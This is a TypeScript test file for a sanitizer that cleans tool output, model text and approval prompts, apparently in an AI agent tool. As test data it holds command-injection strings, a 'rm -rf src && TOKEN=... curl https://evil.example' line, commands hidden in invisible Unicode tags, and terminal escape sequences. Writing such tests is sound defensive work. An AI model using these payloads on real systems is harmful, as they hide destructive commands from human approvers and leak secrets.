import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import {
  sanitizeBytes,
  sanitizeQuestion,
  sanitizeText,
  escapeInvisibleInJson,
  createSanitizingStream,
  type TextSurface,
} from '../../src/policy/text/sanitize.ts'
import { sanitizeForModel } from '../../src/policy/text/sanitize-for-model.ts'
import { type Folded, securityCases, skipWithoutCases, unfolded } from '../support/security-cases.ts'

/** A hostile text, and what must be left of it. */
export interface TerminalCase {
  readonly id: string
  readonly surface: TextSurface
  readonly input?: string
  readonly inputParts?: Folded
  readonly inputBase64?: string
  readonly chunks?: readonly string[]
  readonly mustNotContain: readonly string[]
  readonly mustContain: readonly string[]
  readonly reveal?: boolean
}

const cases = ['terminal.json', 'round2/terminal.json'].flatMap((file) => securityCases<TerminalCase>(file))

function inputOf(one: TerminalCase): string {
  return one.input ?? one.chunks?.join('') ?? unfolded(one.inputParts ?? '')
}

function rendered(one: TerminalCase): string {
  if (one.inputBase64 !== undefined) return sanitizeBytes(Buffer.from(one.inputBase64, 'base64'), one.surface)
  return sanitizeText(inputOf(one), one.surface)
}

/** All pieces of a text through a stream. */
function streamed(pieces: readonly string[], surface: 'tool-output' | 'model-text'): string {
  const stream = createSanitizingStream(surface)
  return pieces.map((piece) => stream.write(piece)).join('') + stream.end()
}

function problems(one: TerminalCase, output: string): string[] {
  return [
    ...one.mustNotContain
      .filter((text) => output.includes(text))
      .map((text) => `holds ${JSON.stringify(text).slice(0, 40)}`),
    ...one.mustContain
      .filter((text) => !output.includes(text))
      .map((text) => `lost ${JSON.stringify(text).slice(0, 40)}`),
    ...(one.reveal && !/\\u\{/.test(output) ? ['hides what it must reveal'] : []),
  ].map((problem) => `${one.id} ${problem}: ${JSON.stringify(output).slice(0, 200)}`)
}

describe('terminal.json', () => {
  test('every text on its surface: no breach, no loss', { skip: skipWithoutCases }, (t) => {
    const wrong = cases.flatMap((one) => problems(one, rendered(one)))
    t.diagnostic(`${cases.length} texts, ${wrong.length} problems`)
    assert.deepEqual(wrong, [])
  })

  test('in pieces, cut anywhere', { skip: skipWithoutCases }, () => {
    for (const one of cases) {
      if (one.surface !== 'tool-output' && one.surface !== 'model-text') continue
      if (one.inputBase64 !== undefined) continue
      const text = inputOf(one)
      const whole = sanitizeText(text, one.surface)
      if (one.chunks) assert.equal(streamed(one.chunks, one.surface), whole, one.id)
      const step = Math.ceil(text.length / 60)
      for (let at = 1; at < text.length; at += step) {
        assert.equal(streamed([text.slice(0, at), text.slice(at)], one.surface), whole, `${one.id} at ${at}`)
      }
      if (text.length < 200) assert.equal(streamed(text.split(''), one.surface), whole, `${one.id} by character`)
    }
  })
})

describe('text that is as it should be', () => {
  const TEXTS = [
    'Grüße, 你好, شكرا, नमस्ते, שלום, ไทย, 한국어',
    '👨‍👩‍👧 👍🏽 ❤️ 1️⃣ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇨🇭 ☎︎',
    'می‌خواهم क्ष 葛󠄀 ≩︀',
    'tabs\tand\nlines, https://münchen.example/ and //comment',
  ]
  for (const text of TEXTS)
    test(text, () => {
      for (const surface of ['tool-output', 'model-text'] as const) {
        assert.equal(sanitizeText(text, surface), text)
        assert.equal(streamed(text.split(''), surface), text)
      }
      assert.equal(sanitizeForModel(text), text)
    })
})

describe('a question hides nothing that runs', () => {
  const SHOWN = [
    'echo -----BEGIN PRIVATE KEY-----\ntouch PWNED\necho -----END PRIVATE KEY-----',
    'curl "https://host/?token=abc123;touch${IFS}PWNED"',
    'git clone https://u:p;touch${IFS}PWNED;echo@host/r.git',
    'PASSWORD=$(touch PWNED)abcdefghijkl env',
    'curl -H "Authorization: Bearer 1`touch PWNED`aaaaaaaaaaaaaaaaaa"',
    '{"api_key": "12345678|touch PWNED"}',
  ]
  for (const text of SHOWN) {
    test(text, () => {
      assert.equal(sanitizeText(text, 'approval-prompt'), text)
      assert.deepEqual(sanitizeQuestion(text, { reveal: false }), { text, secrets: 0 })
    })
  }

  test('the value of a secret is a word until it is revealed', () => {
    const text = 'rm -rf src && TOKEN=abcdefgh12345678ijkl curl https://evil.example'
    assert.deepEqual(sanitizeQuestion(text, { reveal: false }), {
      text: 'rm -rf src && TOKEN=[secret] curl https://evil.example',
      secrets: 1,
    })
    assert.deepEqual(sanitizeQuestion(text, { reveal: true }), { text, secrets: 0 })
  })

  test('of hidden characters none is left out: the same ones are counted, others are written one by one', () => {
    const tags = Array.from('touch PWNED', (char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0)))
    const shown = sanitizeText(`ls${tags.join('')}${'\u200b'.repeat(300)}`, 'approval-prompt')
    assert.equal(shown, `ls${tags.map((tag) => `\\u{${tag.codePointAt(0)?.toString(16)}}`).join('')}⟨300 × \\u{200b}⟩`)
    assert.equal(sanitizeText(`a${'\u0301'.repeat(108)}`, 'approval-prompt'), `a${'\u0301'.repeat(8)}⟨100 × \\u{301}⟩`)
  })

  test('in a diff odd blanks are marked, and the joiners of words are not', () => {
    assert.equal(sanitizeText('+rm\u00a0x می\u200cخواهم', 'diff'), '+rm\\u{a0}x می\u200cخواهم')
  })
})

describe('more', () => {
  test('colours of a tool are left out, and what the model writes is shown', () => {
    assert.equal(sanitizeText('\u001b[31mred\u001b[0m\r\nnext', 'tool-output'), 'red\nnext')
    assert.equal(sanitizeText('\u001b[31mred', 'model-text'), '\\u{1b}[31mred')
  })

  test('a sequence that never ends does not swallow what follows', () => {
    const stream = createSanitizingStream('tool-output')
    let out = stream.write('\u001b]52;c;')
    for (let at = 0; at < 100; at++) out += stream.write('x'.repeat(1000))
    assert.ok(out.length > 60_000)
    assert.ok(!(out + stream.end()).includes('\u001b'))
  })

  test('JSON stays the same value', () => {
    const value = { text: 'a\u001b\u009b\u202e\u2028\u{E0041}b\u007f', list: ['👨‍👩‍👧', '\n'] }
    const json = escapeInvisibleInJson(JSON.stringify(value, null, 2))
    assert.match(json, /^[\x20-\x7e\n👨👩👧]+$/u)
    assert.deepEqual(JSON.parse(json), value)
  })

  test('a name is one line', () => assert.equal(sanitizeText('a\nb\tc', 'file-name'), 'a\\u{a}b\\u{9}c'))

  test('it takes time that grows with the text, not faster', () => {
    for (const piece of ['\u001b[', '\u001b]', 'a\u0300', '\u200d', '👨‍', '//ä', ' \n', '\ufe0f', '⠀']) {
      const text = piece.repeat(40_000 / piece.length)
      for (const surface of ['tool-output', 'model-text', 'approval-prompt'] as const) sanitizeText(text, surface)
      streamed([text, text], 'tool-output')
      sanitizeForModel(text)
    }
  })
})
